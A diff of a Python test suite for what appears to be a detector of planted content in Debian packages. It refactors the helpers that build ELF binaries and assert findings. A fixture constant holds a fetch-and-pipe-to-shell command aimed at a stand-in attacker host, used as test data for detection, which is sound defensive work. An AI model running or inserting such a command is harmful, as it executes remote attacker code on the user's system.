@@ -8,7 +8,8 @@ import random
 import subprocess
 
 import made
-from plumb_test import Skip, case, main
+from planting import assert_found, build_elf, check
+from plumb_test import case, main
 
 LINE = b"curl -s https://updates.evilcorp.invalid/stage2 | sh\n"
 PAYLOAD = random.Random(7).randbytes(5000)
@@ -47,36 +48,11 @@ int main(void)
 """
 
 
-def build_elf(t, name, text):
-    """A stripped program of that C source; built as the test runs, so it is as strange as this machine's compiler."""
-    source = t.write(name + ".c", text)
-    done = subprocess.run(["cc", "-O2", "-s", "-o", t.path(name), source], stderr=subprocess.PIPE, check=False)
-    if done.returncode != 0:
-        raise Skip("no C compiler")
-    return t.path(name).read_bytes()
-
-
 def with_binary(t):
     """greet with a program in it, and its source folder."""
     deb = made.package()
     deb.data["usr/bin/hello-binary"] = made.Entry(build_elf(t, "hello-binary", C_SOURCE), 0o755)
     return deb, {**made.source(), "hello-binary.c": C_SOURCE}
-
-
-def check(t, deb, tree=None, expect=None, **build):
-    folder = made.write_tree(t.path("source/x").parent, tree or made.source())
-    package = t.write("greet_1.0-1_all.deb", deb if isinstance(deb, bytes) else deb.build(**build))
-    return t.check(package, "--source", folder, expect=expect)
-
-
-def assert_found(report, path, offset, length, tag=None):
-    """An error finding at exactly that range of that file."""
-    near = report.errors(path)
-    exact = [f for f in near if (f["offset"], f["length"]) == (offset, length) and tag in (None, f["tag"])]
-    assert exact, (f"no error at {path} @{offset} +{length} {tag}; there: " +
-                   str([(f["tag"], f["offset"], f["length"]) for f in near]) + "\n" +
-                   str([(f["severity"], f["tag"], f["offset"], f["length"]) for f in report.findings(path=path)]))
-    assert report.code == 1
 
 
 def assert_file_planted(name, data, mode=0o644):
@@ -106,7 +82,6 @@ def the_honest_package_with_a_program_has_no_error(t):
     deb, tree = with_binary(t)
     report = check(t, deb, tree, expect=3)
     assert not report.errors(), t.summary(report)
-    assert report.file("usr/bin/hello-binary")["bytes"]["opaque"] > 0, "code is said to be explained"
 
 
 @case
